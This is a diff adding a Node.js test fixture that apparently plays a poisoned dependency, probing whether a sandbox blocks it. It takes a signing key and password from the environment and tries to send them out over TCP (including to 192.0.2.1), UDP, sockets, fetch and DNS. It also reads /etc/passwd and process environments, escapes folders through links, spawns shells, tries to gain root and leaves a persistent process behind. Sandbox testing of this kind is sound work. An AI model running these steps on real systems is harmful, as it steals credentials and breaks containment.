@@ -1,0 +1,103 @@
+// What a poisoned dependency would do beside the key, put before the command line by sealed.test.ts: it takes every way out that
+// Node.js has, and writes which ones were open into the one file that is carried out.
+import { spawn, spawnSync } from 'node:child_process';
+import { createSocket } from 'node:dgram';
+import { lookup } from 'node:dns/promises';
+import * as fs from 'node:fs';
+import { connect } from 'node:net';
+import { networkInterfaces } from 'node:os';
+
+const LOOT = `${process.env.APPLICATION_P12_BASE64}${process.env.APPLICATION_P12_PASSWORD}`;
+const plan = JSON.parse(fs.readFileSync('/in/plan.json', 'utf8'));
+const outcomes = {};
+
+async function attempt(name, work) {
+  try {
+    outcomes[name] = `open: ${(await work()) ?? 'done'}`;
+  } catch (error) {
+    outcomes[name] = `closed: ${error.code ?? error.message}`;
+  }
+}
+
+const send = (target) =>
+  new Promise((done, reject) => {
+    const socket = connect(target, () => socket.end(LOOT, done));
+    socket.on('error', reject);
+  });
+const sendDatagram = (port) =>
+  new Promise((done, reject) => {
+    const socket = createSocket('udp4');
+    socket.send(LOOT, port, '127.0.0.1', (error) => (error ? reject(error) : done()));
+  });
+const start = (program, argv = []) => {
+  const { error, status } = spawnSync(program, argv);
+  if (error) throw error;
+  return status;
+};
+const dangling = (path) => {
+  fs.symlinkSync(plan.folder, '/out/way');
+  fs.writeFileSync(path, LOOT);
+};
+
+process.stdout.write(LOOT);
+process.stderr.write(LOOT);
+await attempt('tcp', () => send({ port: plan.port, host: '127.0.0.1' }));
+await attempt('tcp-outside', () => send({ port: 53, host: '192.0.2.1' }));
+await attempt('udp', () => sendDatagram(plan.port));
+await attempt('unix-socket', () => send({ path: plan.socket }));
+await attempt('abstract-socket', () => send({ path: plan.abstract }));
+await attempt('fetch', async () => (await fetch(`http://127.0.0.1:${plan.port}/${LOOT.length}`)).status);
+await attempt('dns', () => lookup('example.com'));
+for (const folder of [
+  '/',
+  '/in',
+  '/bin',
+  '/dev',
+  '/tmp',
+  '/dev/shm',
+  '/home',
+  '/root',
+  '/var/tmp',
+  '/run',
+  plan.folder,
+]) {
+  await attempt(`write ${folder === plan.folder ? 'the caller’s folder' : folder}`, () =>
+    fs.writeFileSync(`${folder}/loot`, LOOT),
+  );
+}
+await attempt('write the record', () => fs.writeFileSync('/record.json', LOOT));
+await attempt('write through a link', () => dangling('/out/way/loot'));
+await attempt('write above', () => fs.writeFileSync('/out/../loot', LOOT));
+for (const path of ['/etc/passwd', '/proc/self/environ', '/proc/1/environ', '/sys/kernel', '/dev/kmsg']) {
+  await attempt(`read ${path}`, () => fs.readFileSync(path).length);
+}
+await attempt('shell', () => start('/bin/sh', ['-c', 'true']));
+await attempt('made program', () => {
+  fs.writeFileSync('/out/program', '#!/bin/node\n', { mode: 0o755 });
+  return start('/out/program');
+});
+await attempt('native code', () => {
+  fs.copyFileSync('/bin/node', '/out/native.node');
+  process.dlopen({ exports: {} }, '/out/native.node');
+});
+await attempt('become root', () => process.setuid(0));
+await attempt('signal the first process', () => process.kill(1, 'SIGTERM'));
+await attempt('change root', () => process.chdir('/proc/1/root'));
+// One that stays behind and would go on when the step is over.
+spawn(process.execPath, ['-e', `setInterval(() => {}, 1000) // ${plan.marker}`], { detached: true }).unref();
+
+fs.writeFileSync(
+  '/out/signed.json',
+  JSON.stringify({
+    outcomes,
+    env: Object.keys(process.env).sort(),
+    argvHoldsLoot: process.argv.some((word) => word.includes(process.env.APPLICATION_P12_PASSWORD)),
+    root: fs.readdirSync('/').sort(),
+    interfaces: Object.keys(networkInterfaces()),
+    user: process.getuid(),
+    groups: process.getgroups(),
+    loot: LOOT,
+  }),
+);
+if (plan.end === 'abort') process.abort();
+process.exit(plan.end);
